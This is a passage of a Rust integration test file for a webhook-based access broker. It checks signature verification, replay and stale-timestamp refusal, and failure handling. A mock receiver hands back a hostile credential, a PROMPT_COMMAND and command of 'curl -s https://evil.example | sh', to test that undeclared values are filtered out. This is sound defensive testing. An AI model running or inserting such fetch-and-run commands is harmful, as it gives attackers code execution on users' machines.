//! Grants that reach a webhook: the example receiver the README ships,
//! run on loopback, verifying each call's signature; and a receiver of our
//! own that answers slowly, with a 500, with garbage or with a redirect.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Bytes;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use hoist_api::{AccessState, AuditKind, CreateRequest, ErrorCode, Grant, GrantState};
use hoistd::target::webhook::{self, DELIVERY_HEADER, SIGNATURE_HEADER, TIMESTAMP_HEADER};

use crate::helpers::*;
use crate::operations::{sample, scrape};

const LONG: Duration = Duration::from_secs(30);
const SECRET: &str = "whsec-test-0123456789";

/// The test policy with a webhook target `hook` at `url` and role
/// `k8s-admin` there.
pub(crate) fn policy(dir: &std::path::Path, url: &str) -> String {
    std::fs::write(dir.join("webhook-secret"), SECRET).unwrap();
    format!(
        "{}\n[[targets]]\nname = \"hook\"\nkind = \"webhook\"\nurl = \"{url}\"\n\
         secret_file = \"{}\"\ntimeout = \"1s\"\nenv = [\"EXAMPLE_GRANT\", \"EXAMPLE_USER\"]\n{}",
        policy_text(""),
        dir.join("webhook-secret").display(),
        target_role(
            "k8s-admin",
            "hook",
            "cluster = \"prod\"\nverbs = [\"get\", \"delete\"]"
        )
    )
}

async fn broker(url: &str) -> (TestBroker, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let broker = TestBroker::builder()
        .policy(&policy(dir.path(), url))
        .start()
        .await;
    (broker, dir)
}

/// Reloads the policy file as it is now, which must be taken (`why`).
async fn reload(broker: &TestBroker, why: &str) {
    broker
        .server()
        .reload(&broker.policy_path())
        .await
        .expect(why);
}

/// Reloads the policy file as it is now, which must be refused (`why`):
/// the refusal.
async fn reload_refused(broker: &TestBroker, why: &str) -> String {
    broker
        .server()
        .reload(&broker.policy_path())
        .await
        .expect_err(why)
        .to_string()
}

async fn granted(broker: &TestBroker, justification: &str) -> Grant {
    let filed = broker
        .as_user("alice")
        .file(&request("k8s-admin", justification))
        .await
        .unwrap();
    let approved = broker.as_user("bob").approve(&filed.id).await.unwrap();
    broker
        .as_user("alice")
        .grant(&approved.grant_id.unwrap())
        .await
        .unwrap()
}

/// The example receiver from assets/, on a free port.
pub(crate) struct Receiver {
    child: Child,
    pub(crate) url: String,
}

impl Drop for Receiver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The example receiver as the policy's target `hook`.
pub(crate) fn example_receiver() -> Receiver {
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../assets/webhook-receiver.py"
    );
    let mut child = Command::new("python3")
        .arg(script)
        .args(["--port", "0", "--target", "hook"])
        .env("HOIST_WEBHOOK_SECRET", SECRET)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("python3 runs the example receiver");
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    let url = first
        .split_whitespace()
        .last()
        .unwrap_or_else(|| panic!("{first}"))
        .to_string();
    assert!(url.starts_with("http://127.0.0.1:"), "{first}");
    Receiver { child, url }
}

#[tokio::test]
async fn the_example_receiver_provisions_hands_over_and_removes_access() {
    let receiver = example_receiver();
    let (broker, _dir) = broker(&receiver.url).await;
    broker.reconciled().await;
    let grant = granted(&broker, "drain np-3 after the CVE patch").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    let credential = broker.as_user("alice").credential(&grant.id).await.unwrap();
    let handed = credential.access.unwrap();
    assert_eq!(handed.kind, "webhook");
    assert_eq!(handed.env["EXAMPLE_GRANT"], grant.id);
    assert_eq!(handed.env["EXAMPLE_USER"], "alice");

    broker
        .as_user("alice")
        .revoke(&grant.id, "done")
        .await
        .unwrap();
    until_access(&broker, &grant.id, AccessState::Removed).await;
    let pass = hoistd::target::reconcile::pass(broker.broker()).await;
    assert_eq!(pass.failures, 0, "{pass:?}");

    let deliveries = broker
        .broker()
        .store()
        .transaction()
        .unwrap()
        .deliveries(50)
        .unwrap();
    let actions: Vec<&str> = deliveries.iter().rev().map(|d| d.action.as_str()).collect();
    // (The reconciler may have inspected too.)
    assert_eq!(actions.first(), Some(&"provision"), "{deliveries:?}");
    assert_eq!(actions.last(), Some(&"deprovision"), "{deliveries:?}");
    assert!(actions.contains(&"inspect"), "{deliveries:?}");
    assert!(
        deliveries
            .iter()
            .all(|d| d.status == Some(200) && d.error.is_none())
    );
    assert!(deliveries.iter().all(|d| d.target == "hook"));
}

#[tokio::test]
async fn the_example_receiver_refuses_bad_signatures_and_stale_timestamps() {
    let receiver = example_receiver();
    let body =
        br#"{"delivery":"d-1","target":"hook","action":"provision","grant":{"id":"gr_x","holder":"mallory"}}"#;
    let now = chrono::Utc::now().timestamp();
    let post = |timestamp: i64, signature: String| {
        reqwest::Client::new()
            .post(&receiver.url)
            .header(TIMESTAMP_HEADER, timestamp.to_string())
            .header(SIGNATURE_HEADER, signature)
            .header(DELIVERY_HEADER, "d-1")
            .body(&body[..])
            .send()
    };
    let good = |timestamp: i64| {
        format!(
            "v1={}",
            webhook::sign(SECRET.as_bytes(), &timestamp.to_string(), body)
        )
    };
    let forged = format!(
        "v1={}",
        webhook::sign(b"not-the-secret", &now.to_string(), body)
    );
    for (what, timestamp, signature) in [
        ("a wrong secret", now, forged),
        ("no signature", now, String::new()),
        ("a stale timestamp", now - 3600, good(now - 3600)),
        ("a signature of another timestamp", now, good(now - 1)),
    ] {
        let response = post(timestamp, signature).await.unwrap();
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{what}");
    }
    let response = post(now, good(now)).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
}

/// How our own receiver answers.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Mode {
    Ok,
    /// As `Ok`, after 3 s.
    SlowOk,
    Slow,
    Fails,
    Garbage,
    Redirects,
    /// 404, its message quoting the path, where the receiver's token is.
    QuotesPath,
    /// 200, saying it failed.
    SaysFailed,
    /// 200 `{"status": "ok"}` to everything, `inspect` too.
    SaysOk,
    /// As `Ok`, holding each hand-over (`inspect`) two seconds (the
    /// target's timeout must be longer).
    HoldsHandOvers,
}

#[derive(Clone)]
struct Endpoint {
    mode: Arc<Mutex<Mode>>,
    /// Every call that came with a valid signature: its body.
    calls: Arc<Mutex<Vec<serde_json::Value>>>,
    held: Arc<Mutex<std::collections::BTreeSet<String>>>,
}

/// The receiver's path: a token in it, as many receivers take theirs.
const HOOK_PATH: &str = "/hooks/s3cret-route-token";

async fn endpoint(
    state: axum::extract::State<Endpoint>,
    uri: axum::http::Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let header = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string()
    };
    let timestamp = header(TIMESTAMP_HEADER);
    let expected = format!("v1={}", webhook::sign(SECRET.as_bytes(), &timestamp, &body));
    if header(SIGNATURE_HEADER) != expected
        || uuid::Uuid::parse_str(&header(DELIVERY_HEADER)).is_err()
    {
        return StatusCode::UNAUTHORIZED.into_response();
    }
    let call: serde_json::Value = serde_json::from_slice(&body).unwrap();
    // The delivery is signed too, as the header's UUID.
    if call["delivery"] != header(DELIVERY_HEADER).as_str() {
        return StatusCode::UNAUTHORIZED.into_response();
    }
    state.calls.lock().unwrap().push(call.clone());
    let mut mode = *state.mode.lock().unwrap();
    if mode == Mode::SlowOk {
        tokio::time::sleep(Duration::from_secs(3)).await;
        mode = Mode::Ok;
    }
    if mode == Mode::HoldsHandOvers {
        if call["action"] == "inspect" {
            tokio::time::sleep(Duration::from_secs(2)).await;
        }
        mode = Mode::Ok;
    }
    match mode {
        Mode::Slow => {
            tokio::time::sleep(Duration::from_secs(3)).await;
            axum::Json(serde_json::json!({ "status": "ok" })).into_response()
        }
        Mode::Fails => (
            StatusCode::INTERNAL_SERVER_ERROR,
            axum::Json(
                serde_json::json!({ "status": "error", "message": "IAM is down\u{1b}[31m" }),
            ),
        )
            .into_response(),
        Mode::Garbage => (StatusCode::OK, "<html>ok</html>").into_response(),
        Mode::SaysFailed => axum::Json(
            serde_json::json!({ "status": "failed", "message": "RBAC denied", "present": false }),
        )
        .into_response(),
        Mode::SaysOk => axum::Json(serde_json::json!({ "status": "ok" })).into_response(),
        Mode::QuotesPath => (
            StatusCode::NOT_FOUND,
            axum::Json(
                serde_json::json!({ "message": format!("no route for POST {}", uri.path()) }),
            ),
        )
            .into_response(),
        Mode::Redirects => (
            StatusCode::FOUND,
            [("location", "https://elsewhere.example/hook")],
        )
            .into_response(),
        Mode::Ok | Mode::SlowOk | Mode::HoldsHandOvers => {
            let id = call["grant"]["id"].as_str().unwrap().to_string();
            let mut held = state.held.lock().unwrap();
            match call["action"].as_str().unwrap() {
                "provision" => {
                    held.insert(id);
                }
                "deprovision" => {
                    held.remove(&id);
                }
                _ => {
                    // Besides what the policy declares, what no holder
                    // should ever be handed.
                    return axum::Json(serde_json::json!({
                        "present": held.contains(&id),
                        "credential": {
                            "env": {
                                "EXAMPLE_GRANT": id,
                                "PROMPT_COMMAND": "curl -s https://evil.example | sh",
                                "UNDECLARED": "x",
                            },
                            "command": "curl -s https://evil.example | sh",
                            "uri": "https://evil.example/",
                        },
                    }))
                    .into_response();
                }
            }
            axum::Json(serde_json::json!({ "status": "ok" })).into_response()
        }
    }
}

async fn own_receiver(mode: Mode) -> (Endpoint, String) {
    let state = Endpoint {
        mode: Arc::new(Mutex::new(mode)),
        calls: Arc::default(),
        held: Arc::default(),
    };
    let app = axum::Router::new()
        .route(HOOK_PATH, axum::routing::post(endpoint))
        .with_state(state.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}{HOOK_PATH}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (state, url)
}

/// An endpoint hands a holder only the variables its target's `env`
/// declares, and a command or URI only if the target allows them; whatever
/// else it sends (a prompt command, say) is left out.
#[tokio::test]
async fn an_endpoint_hands_over_only_the_variables_the_policy_declares() {
    let (_endpoint, url) = own_receiver(Mode::Ok).await;
    let (broker, _dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    let credential = broker.as_user("alice").credential(&grant.id).await.unwrap();
    let handed = credential.access.unwrap();
    assert_eq!(
        handed.env.keys().collect::<Vec<_>>(),
        ["EXAMPLE_GRANT"],
        "{handed:?}"
    );
    assert_eq!(handed.env["EXAMPLE_GRANT"], grant.id);
    // Nor a command or URI, which people copy, unless the target allows them.
    assert_eq!((handed.command, handed.uri), (None, None));

    let dir = tempfile::tempdir().unwrap();
    let allowing =
        policy(dir.path(), &url).replace("env = [", "command = true\nuri = true\nenv = [");
    let broker = TestBroker::builder().policy(&allowing).start().await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    let handed = broker
        .as_user("alice")
        .credential(&grant.id)
        .await
        .unwrap()
        .access
        .unwrap();
    assert_eq!(handed.uri.as_deref(), Some("https://evil.example/"));
    assert!(handed.command.is_some());
}

/// An `inspect` answer that does not say the access is there (no
/// `present`) hands nothing over.
#[tokio::test]
async fn an_inspect_that_does_not_say_present_hands_nothing_over() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (broker, _dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    *endpoint.mode.lock().unwrap() = Mode::SaysOk;
    let refused = broker
        .as_user("alice")
        .credential(&grant.id)
        .await
        .expect_err("nothing said it is there");
    assert!(
        refused.1.message.contains("`\"present\": true`"),
        "{refused:?}"
    );
}

/// A reload while a holder's access is being handed over may have taken
/// out of the role what the target was asked for: what it made is
/// withheld (audited so), and made again under the policy now in force,
/// for a person's fetch and a workload's exchange alike.
#[tokio::test]
async fn a_hand_over_a_reload_overtakes_is_withheld_and_made_again() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let provider = crate::oidc::Provider::start().await;
    let dir = tempfile::tempdir().unwrap();
    // Long enough for the receiver's hold, and a reload within it.
    let text = format!(
        "{}\n[[workloads]]\nname = \"ci\"\nissuer = \"{}\"\naudience = \"https://hoist.test/ci\"\n\
         [workloads.claims]\nsub = \"deploy-bot\"\n[[workloads.roles]]\nrole = \"k8s-admin\"\n\
         max_ttl_minutes = 5\napproval = \"automatic\"\n",
        policy(dir.path(), &url).replace("timeout = \"1s\"", "timeout = \"10s\""),
        provider.issuer
    );
    let broker = TestBroker::builder().policy(&text).start().await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    *endpoint.mode.lock().unwrap() = Mode::HoldsHandOvers;
    let hand_overs = || {
        endpoint
            .calls
            .lock()
            .unwrap()
            .iter()
            .filter(|call| call["action"] == "inspect")
            .count()
    };
    // Once the receiver holds a hand-over begun after `after` others.
    async fn overtake(broker: &TestBroker, hand_overs: impl Fn() -> usize, after: usize) {
        eventually(Duration::from_secs(10), || async { hand_overs() > after }).await;
        reload(broker, "the same policy, read again").await;
    }

    let before = hand_overs();
    let alice = broker.as_user("alice");
    let id = grant.id.clone();
    let fetched = tokio::spawn(async move { alice.credential(&id).await });
    overtake(&broker, hand_overs, before).await;
    let credential = fetched.await.unwrap().unwrap();
    assert_eq!(credential.access.unwrap().env["EXAMPLE_GRANT"], grant.id);
    assert!(hand_overs() >= before + 2, "made again");

    let token = provider
        .workload_token(
            "deploy-bot",
            "https://hoist.test/ci",
            &serde_json::json!({}),
            None,
        )
        .await;
    let url = format!("{}/v1/token", broker.url());
    let before = hand_overs();
    let exchanged = tokio::spawn(async move {
        reqwest::Client::new()
            .post(url)
            .form(&[
                ("grant_type", hoist_api::TOKEN_EXCHANGE_GRANT),
                ("subject_token", token.as_str()),
                ("subject_token_type", hoist_api::JWT_TOKEN_TYPE),
                ("scope", "k8s-admin"),
            ])
            .send()
            .await
            .unwrap()
    });
    overtake(&broker, hand_overs, before).await;
    let answer = exchanged.await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    let issued: hoist_api::TokenExchangeResponse = answer.json().await.unwrap();
    assert_eq!(issued.access.unwrap().env["EXAMPLE_GRANT"], issued.grant_id);

    let log = broker.as_user("erin").audit().await;
    let withheld: Vec<_> = log
        .iter()
        .filter(|e| e.kind == AuditKind::CredentialWithheld)
        .collect();
    assert_eq!(withheld.len(), 2, "{withheld:?}");
    for entry in withheld {
        assert!(
            entry.details["error"]
                .as_str()
                .unwrap_or_default()
                .contains("policy was reloaded"),
            "{entry:?}"
        );
    }
}

/// A grant at an endpoint answering as `mode` stays unusable, with a reason
/// naming what went wrong, until the endpoint answers properly.
async fn fails_then_recovers(mode: Mode, said: &str) {
    let (endpoint, url) = own_receiver(mode).await;
    let (broker, _dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    eventually(LONG, || async {
        let access = target_access(&broker, &grant.id).await;
        access.state == AccessState::Failed && access.reason.is_some()
    })
    .await;
    let reason = target_access(&broker, &grant.id).await.reason.unwrap();
    assert!(reason.starts_with("hook "), "{reason}");
    assert!(reason.contains(said), "{mode:?}: {reason}");
    assert!(!reason.chars().any(char::is_control), "{reason:?}");
    assert!(
        !reason.contains("s3cret"),
        "the path's token is shown: {reason}"
    );
    let refusal = refused(
        broker.as_user("alice").credential(&grant.id).await,
        StatusCode::CONFLICT,
        ErrorCode::InvalidState,
    );
    assert!(refusal.contains(said), "{refusal}");
    assert!(
        !refusal.contains("s3cret"),
        "the path's token is shown: {refusal}"
    );
    let failed: Vec<_> = broker
        .as_user("erin")
        .audit()
        .await
        .into_iter()
        .filter(|e| e.kind == AuditKind::ProvisionFailed)
        .collect();
    assert!(!failed.is_empty());
    assert_eq!(failed[0].details["target"], "hook");
    let delivered = broker
        .broker()
        .store()
        .transaction()
        .unwrap()
        .deliveries(10)
        .unwrap();
    assert!(
        delivered
            .iter()
            .all(|d| d.error.as_deref().is_some_and(|e| e.contains(said)))
    );

    *endpoint.mode.lock().unwrap() = Mode::Ok;
    until_access(&broker, &grant.id, AccessState::Live).await;
    // What the endpoint was told, every time, under a valid signature.
    let calls = endpoint.calls.lock().unwrap().clone();
    assert!(calls.len() >= 2, "{calls:?}");
    let grant_sent = &calls[0]["grant"];
    assert_eq!(calls[0]["action"], "provision");
    assert_eq!(grant_sent["id"], grant.id.as_str());
    assert_eq!(grant_sent["holder"], "alice");
    assert_eq!(grant_sent["role"], "k8s-admin");
    assert_eq!(grant_sent["justification"], "rotate the node pool");
    assert_eq!(grant_sent["access"]["cluster"], "prod");
    assert_eq!(grant_sent["access"]["verbs"][1], "delete");
    // The lease it acts under, on a store one process uses: the process's,
    // the milliseconds since 1970 when it began, so a restart's is higher.
    let epoch = calls[0]["leader_epoch"].as_i64().unwrap();
    assert!(epoch > 1_700_000_000_000, "{calls:?}");
    assert!(
        calls.iter().all(|call| call["leader_epoch"] == epoch),
        "{calls:?}"
    );
}

/// Sends `call` to the receiver at `url` as hoistd would sign it, now;
/// its status and JSON answer.
fn signed_call(
    url: &str,
    call: &serde_json::Value,
) -> impl std::future::Future<Output = (StatusCode, serde_json::Value)> + use<> {
    let mut call = call.clone();
    let delivery = uuid::Uuid::new_v4().to_string();
    if call.get("delivery").is_none() {
        call["delivery"] = delivery.as_str().into();
    }
    if call.get("target").is_none() {
        call["target"] = "hook".into();
    }
    let body = serde_json::to_vec(&call).unwrap();
    let now = chrono::Utc::now().timestamp().to_string();
    let signature = format!("v1={}", webhook::sign(SECRET.as_bytes(), &now, &body));
    let request = reqwest::Client::new()
        .post(url)
        .header(TIMESTAMP_HEADER, now)
        .header(SIGNATURE_HEADER, signature)
        .header(DELIVERY_HEADER, delivery)
        .body(body);
    async move {
        let answer = request.send().await.unwrap();
        (
            answer.status(),
            answer.json::<serde_json::Value>().await.unwrap(),
        )
    }
}

/// A call from a leader that lost its lease can arrive after the new
/// leader's: the example receiver keeps the highest `leader_epoch` it has
/// seen from each deployment and refuses a provision under a lower one, so
/// a late provision cannot bring back removed access. A removal it never
/// refuses.
#[tokio::test]
async fn the_example_receiver_refuses_a_late_provision_from_a_deposed_leader() {
    let receiver = example_receiver();
    let post = |action: &str, issuer: &str, epoch: Option<i64>| {
        let grant = if action == "provision" && epoch.is_none() {
            "gr_y"
        } else {
            "gr_x"
        };
        let mut call = serde_json::json!({
            "action": action,
            "grant": { "id": grant, "holder": "alice" },
            "issuer": issuer,
        });
        if let Some(epoch) = epoch {
            call["leader_epoch"] = epoch.into();
        }
        signed_call(&receiver.url, &call)
    };
    let (prod, staging) = (
        "https://hoist.example.com",
        "https://hoist.staging.example.com",
    );
    let present = || async {
        let (_, gr_x) = post("inspect", prod, None).await;
        gr_x["present"] == true
    };
    assert_eq!(post("provision", prod, Some(2)).await.0, StatusCode::OK);
    let (status, refusal) = post("provision", prod, Some(1)).await;
    assert_eq!(status, StatusCode::CONFLICT, "{refusal}");
    // Another deployment's epochs count on their own.
    assert_eq!(post("provision", staging, Some(1)).await.0, StatusCode::OK);
    assert!(present().await);
    // A late removal is still a removal; and an hoistd that sends no epoch
    // is not fenced.
    assert_eq!(post("deprovision", prod, Some(1)).await.0, StatusCode::OK);
    assert!(!present().await);
    assert_eq!(
        post("provision", prod, None).await.0,
        StatusCode::OK,
        "gr_y"
    );
}

/// A signed call taken once is refused when it comes again within the
/// timestamp's window: the example receiver remembers each `delivery`, so
/// a captured `inspect` cannot be replayed for a fresh credential. Nor is
/// one signed for another target (sharing the secret) taken.
#[tokio::test]
async fn the_example_receiver_refuses_a_delivery_it_has_taken_or_one_for_another_target() {
    let receiver = example_receiver();
    let issuer = "https://hoist.example.com";
    let provision = serde_json::json!({
        "action": "provision", "grant": { "id": "gr_r", "holder": "alice" },
        "issuer": issuer, "leader_epoch": 7,
    });
    assert_eq!(
        signed_call(&receiver.url, &provision).await.0,
        StatusCode::OK
    );
    let inspect = serde_json::json!({
        "delivery": uuid::Uuid::new_v4().to_string(),
        "action": "inspect", "grant": { "id": "gr_r", "holder": "alice" }, "issuer": issuer,
    });
    let (status, first) = signed_call(&receiver.url, &inspect).await;
    assert_eq!(status, StatusCode::OK, "{first}");
    assert_eq!(first["credential"]["env"]["EXAMPLE_GRANT"], "gr_r");
    let (status, again) = signed_call(&receiver.url, &inspect).await;
    assert_eq!(status, StatusCode::CONFLICT, "{again}");
    assert!(
        again["message"].as_str().unwrap().contains("taken before"),
        "{again}"
    );
    assert!(again.get("credential").is_none(), "{again}");
    // A call with no delivery in its signed body is refused as well.
    let mut bare = inspect.clone();
    bare["delivery"] = "".into();
    assert_eq!(
        signed_call(&receiver.url, &bare).await.0,
        StatusCode::BAD_REQUEST
    );
    let mut elsewhere = provision.clone();
    elsewhere["target"] = "hook-staging".into();
    elsewhere["grant"]["id"] = "gr_s".into();
    let (status, refused) = signed_call(&receiver.url, &elsewhere).await;
    assert_eq!(status, StatusCode::CONFLICT, "{refused}");
    assert!(
        refused["message"]
            .as_str()
            .unwrap()
            .contains("this receiver is target hook, not hook-staging"),
        "{refused}"
    );
}

/// A provision that arrives after its grant's removal (one hoistd gave up
/// waiting for and the receiver finished late, or a captured call replayed
/// within the signature's window) is refused by the example receiver, as is
/// one for a grant whose end has passed: a removed grant stays removed.
#[tokio::test]
async fn the_example_receiver_refuses_a_provision_after_its_grants_removal() {
    let receiver = example_receiver();
    let call = |action: &str, id: &str, expires_at: chrono::DateTime<chrono::Utc>| {
        let call = serde_json::json!({
            "action": action,
            "grant": { "id": id, "holder": "alice", "expires_at": expires_at },
            "issuer": "https://hoist.example.com",
            "leader_epoch": 7,
        });
        signed_call(&receiver.url, &call)
    };
    let ends = chrono::Utc::now() + chrono::TimeDelta::hours(1);
    assert_eq!(call("provision", "gr_z", ends).await.0, StatusCode::OK);
    assert_eq!(
        call("provision", "gr_z", ends).await.0,
        StatusCode::OK,
        "a retry"
    );
    assert_eq!(call("deprovision", "gr_z", ends).await.0, StatusCode::OK);
    let (status, refusal) = call("provision", "gr_z", ends).await;
    assert_eq!(status, StatusCode::CONFLICT, "{refusal}");
    assert!(
        refusal["message"].as_str().unwrap().contains("removed"),
        "{refusal}"
    );
    assert_eq!(call("inspect", "gr_z", ends).await.1["present"], false);
    let ended = chrono::Utc::now() - chrono::TimeDelta::seconds(1);
    let (status, refusal) = call("provision", "gr_old", ended).await;
    assert_eq!(status, StatusCode::CONFLICT, "{refusal}");
    assert!(
        refusal["message"].as_str().unwrap().contains("ended"),
        "{refusal}"
    );
}

/// A reconciler pass stops asking a target that does not answer: each
/// call would wait out its timeout, holding up every other target's pass.
/// The grants it did not ask about are checked at the next pass.
#[tokio::test]
async fn a_reconciler_pass_stops_asking_a_target_that_does_not_answer() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let dir = tempfile::tempdir().unwrap();
    let roles: Vec<String> = (0..24).map(|i| format!("hook-{i}")).collect();
    let text = roles.iter().fold(policy(dir.path(), &url), |text, role| {
        text + &target_role(role, "hook", "cluster = \"prod\"")
    });
    let broker = TestBroker::builder().policy(&text).start().await;
    broker.reconciled().await;
    let mut grants = Vec::new();
    // Two requesters: one may file only so many a minute.
    for (role, who) in roles.iter().zip(["alice", "dave"].iter().cycle()) {
        let filed = broker
            .as_user(who)
            .file(&request(role, "drain the node pool"))
            .await
            .unwrap();
        let approved = broker.as_user("bob").approve(&filed.id).await.unwrap();
        grants.push(approved.grant_id.unwrap());
    }
    for id in &grants {
        until_access(&broker, id, AccessState::Live).await;
    }

    *endpoint.mode.lock().unwrap() = Mode::Slow;
    endpoint.calls.lock().unwrap().clear();
    let pass = hoistd::target::reconcile::pass(broker.broker()).await;
    let asked = endpoint
        .calls
        .lock()
        .unwrap()
        .iter()
        .filter(|call| call["action"] == "inspect")
        .count();
    assert!(asked < grants.len(), "asked about all {asked}: {pass:?}");
    assert!(pass.checked < grants.len() && pass.failures > 0, "{pass:?}");
    assert_eq!(pass.missing, 0, "{pass:?}");

    // The next pass starts where this one stopped: no grant is left out
    // pass after pass.
    hoistd::target::reconcile::pass(broker.broker()).await;
    let asked: std::collections::BTreeSet<String> = endpoint
        .calls
        .lock()
        .unwrap()
        .iter()
        .filter(|call| call["action"] == "inspect")
        .map(|call| call["grant"]["id"].as_str().unwrap().to_string())
        .collect();
    let all: std::collections::BTreeSet<String> = grants.into_iter().collect();
    assert_eq!(asked, all, "two passes ask about every grant");
}

/// A 200 that says it failed is a failure, in the delivery log too.
#[tokio::test]
async fn an_endpoint_answering_200_that_it_failed_is_logged_as_failing() {
    fails_then_recovers(Mode::SaysFailed, "answered status `failed`: RBAC denied").await;
}

#[tokio::test]
async fn an_endpoint_answering_500_is_retried_until_it_answers() {
    fails_then_recovers(
        Mode::Fails,
        "answered 500 Internal Server Error: IAM is down",
    )
    .await;
}

/// An answer that quotes the receiver's path (a router's 404) is shown
/// with the path left out: it may hold the receiver's token, and the
/// reason reaches holders, the audit log and chat channels.
#[tokio::test]
async fn an_endpoint_quoting_its_path_has_it_left_out() {
    fails_then_recovers(
        Mode::QuotesPath,
        "answered 404 Not Found: no route for POST …",
    )
    .await;
}

#[tokio::test]
async fn an_endpoint_answering_slowly_times_out_and_is_retried() {
    fails_then_recovers(Mode::Slow, "no answer within 1s").await;
}

#[tokio::test]
async fn an_endpoint_answering_garbage_is_a_failure() {
    fails_then_recovers(Mode::Garbage, "something other than the JSON").await;
}

#[tokio::test]
async fn an_endpoint_redirecting_is_not_followed() {
    fails_then_recovers(Mode::Redirects, "redirects are not followed").await;
}

#[tokio::test]
async fn an_endpoint_down_at_revoke_gets_the_removal_when_it_is_back() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (broker, _dir) = broker(&url).await;
    let grant = granted(&broker, "rotate the node pool").await;
    until_access(&broker, &grant.id, AccessState::Live).await;
    *endpoint.mode.lock().unwrap() = Mode::Fails;
    let revoked = broker
        .as_user("alice")
        .revoke(&grant.id, "done")
        .await
        .unwrap();
    assert_eq!(revoked.state, hoist_api::GrantState::Revoked);
    eventually(LONG, || async {
        let access = target_access(&broker, &grant.id).await;
        access.state == AccessState::Removing && access.reason.is_some()
    })
    .await;
    assert!(endpoint.held.lock().unwrap().contains(&grant.id));
    // What an operator alerts on: an ended grant whose access stays.
    let removing = |text: &str| {
        (
            sample(text, "hoistd_removing_grants"),
            sample(text, "hoistd_removal_lag_seconds"),
        )
    };
    eventually(LONG, || async {
        let (grants, lag) = removing(&scrape(&broker).await);
        grants == 1.0 && lag > 0.0
    })
    .await;
    *endpoint.mode.lock().unwrap() = Mode::Ok;
    until_access(&broker, &grant.id, AccessState::Removed).await;
    assert!(!endpoint.held.lock().unwrap().contains(&grant.id));
    eventually(LONG, || async {
        removing(&scrape(&broker).await) == (0.0, 0.0)
    })
    .await;
}

/// An effect the outbox cannot read (here its row, as an edit outside
/// hoistd leaves it), due first, keeps no other grant's access from being
/// given: the others are read one at a time past it.
#[tokio::test]
async fn an_effect_the_outbox_cannot_read_holds_up_no_other_grants_access() {
    let (endpoint, url) = own_receiver(Mode::Fails).await;
    let (broker, _dir) = broker(&url).await;
    let stuck = granted(&broker, "rotate the node pool").await;
    eventually(LONG, || async {
        target_access(&broker, &stuck.id).await.reason.is_some()
    })
    .await;
    let db = rusqlite::Connection::open(broker.db()).unwrap();
    let changed = db
        .execute(
            "UPDATE target_effects SET created_at = 'not a time', next_attempt_at = 0 \
             WHERE grant_id = ?1",
            [&stuck.id],
        )
        .unwrap();
    assert_eq!(changed, 1);
    *endpoint.mode.lock().unwrap() = Mode::Ok;

    // Another holder's: the approval reads only dave's grants of the role.
    let dave = broker.as_user("dave");
    let filed = dave
        .file(&request("k8s-admin", "drain the old nodes"))
        .await
        .unwrap();
    let approved = broker.as_user("bob").approve(&filed.id).await.unwrap();
    let other = approved.grant_id.unwrap();
    eventually(LONG, || async {
        let grant = dave.grant(&other).await.unwrap();
        grant.access.is_some_and(|a| a.state == AccessState::Live)
    })
    .await;
    assert!(endpoint.held.lock().unwrap().contains(&other));
    assert!(!endpoint.held.lock().unwrap().contains(&stuck.id));

    // Only the effect due is read: one of the grant's done before it that
    // no longer reads keeps its removal from nothing.
    *endpoint.mode.lock().unwrap() = Mode::Fails;
    dave.revoke(&other, "done").await.unwrap();
    eventually(LONG, || async {
        let grant = dave.grant(&other).await.unwrap();
        grant.access.is_some_and(|a| a.reason.is_some())
    })
    .await;
    let changed = db
        .execute(
            "UPDATE target_effects SET created_at = 'not a time' \
             WHERE grant_id = ?1 AND done_at IS NOT NULL",
            [&other],
        )
        .unwrap();
    assert_eq!(changed, 1);
    *endpoint.mode.lock().unwrap() = Mode::Ok;
    eventually(LONG, || async {
        !endpoint.held.lock().unwrap().contains(&other)
    })
    .await;
}

/// An extension the target cannot take yet leaves the access live until
/// the end the target has: its holder is told why the new end is not
/// there, and past the old end the access is no longer live; the new end
/// reaches the target once it answers, and the access is live again.
#[tokio::test]
async fn an_extension_the_target_refuses_leaves_the_access_live_until_its_old_end() {
    let (endpoint, url) = own_receiver(Mode::Ok).await;
    let (broker, _dir) = broker(&url).await;
    let (alice, bob) = (broker.as_user("alice"), broker.as_user("bob"));
    let filed = alice
        .file(&CreateRequest {
            duration_secs: Some(6),
            ..request("k8s-admin", "rotate the node pool")
        })
        .await
        .unwrap();
    let grant_id = bob.approve(&filed.id).await.unwrap().grant_id.unwrap();
    until_access(&broker, &grant_id, AccessState::Live).await;
    let grant = alice.grant(&grant_id).await.unwrap();
    *endpoint.mode.lock().unwrap() = Mode::Fails;
    let extension = alice.extend(&grant_id, 600).await.unwrap();
